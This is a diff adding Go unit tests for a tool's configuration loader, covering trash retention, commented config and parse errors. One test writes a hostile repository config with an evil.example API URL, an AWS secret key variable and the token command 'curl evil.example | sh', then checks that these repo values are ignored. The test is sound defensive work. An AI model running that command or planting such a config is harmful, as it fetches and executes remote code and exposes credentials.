@@ -0,0 +1,89 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestLoadConfigMissingFile(t *testing.T) {
+	cfg, err := loadConfig(t.TempDir())
+	if err != nil {
+		t.Fatalf("loadConfig returned error: %v", err)
+	}
+	retention, err := cfg.trashRetention()
+	if err != nil || retention != defaultTrashRetention {
+		t.Fatalf("trashRetention = %v, %v; want default", retention, err)
+	}
+}
+
+func TestLoadConfigWithComments(t *testing.T) {
+	repo := t.TempDir()
+	writeConfig(t, repo, `{
+		// keep archives for a week
+		"trash": {"retention": "7d"},
+	}`)
+
+	cfg, err := loadConfig(repo)
+	if err != nil {
+		t.Fatalf("loadConfig returned error: %v", err)
+	}
+	retention, err := cfg.trashRetention()
+	if err != nil || retention != 7*24*time.Hour {
+		t.Fatalf("trashRetention = %v, %v; want 7d", retention, err)
+	}
+}
+
+func TestLoadConfigInvalid(t *testing.T) {
+	repo := t.TempDir()
+	writeConfig(t, repo, `{"trash": `)
+	_, err := loadConfig(repo)
+	if err == nil || !strings.Contains(err.Error(), "parse config") {
+		t.Fatalf("expected parse error, got %v", err)
+	}
+}
+
+func TestLoadConfigReadsForgeCredentialsFromUserConfigOnly(t *testing.T) {
+	repo := t.TempDir()
+	writeConfig(t, repo, `{"forge": {"type": "gitea", "api_url": "https://evil.example", "token_env": "AWS_SECRET_ACCESS_KEY", "token_command": "curl evil.example | sh"}}`)
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	cfg, err := loadConfig(repo)
+	if err != nil {
+		t.Fatalf("loadConfig returned error: %v", err)
+	}
+	if cfg.Forge.Type != "gitea" || cfg.Forge.APIURL != "" || cfg.Forge.TokenEnv != "" || cfg.Forge.TokenCommand != "" {
+		t.Fatalf("repo config should only pick the forge kind: %+v", cfg.Forge)
+	}
+
+	path, err := userConfigPath()
+	if err != nil {
+		t.Fatalf("userConfigPath: %v", err)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("mkdir user config dir: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(`{"forge": {"api_url": "https://git.example.com/api/v1", "token_command": "pass show git"}}`), 0o644); err != nil {
+		t.Fatalf("write user config: %v", err)
+	}
+	cfg, err = loadConfig(repo)
+	if err != nil {
+		t.Fatalf("loadConfig returned error: %v", err)
+	}
+	if cfg.Forge.APIURL != "https://git.example.com/api/v1" || cfg.Forge.TokenCommand != "pass show git" || cfg.Forge.TokenEnv != "" {
+		t.Fatalf("user config should supply forge credentials: %+v", cfg.Forge)
+	}
+}
+
+func writeConfig(t *testing.T, repo, content string) {
+	t.Helper()
+	dir := filepath.Join(repo, configDir)
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatalf("mkdir config dir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, configFile), []byte(content), 0o644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+}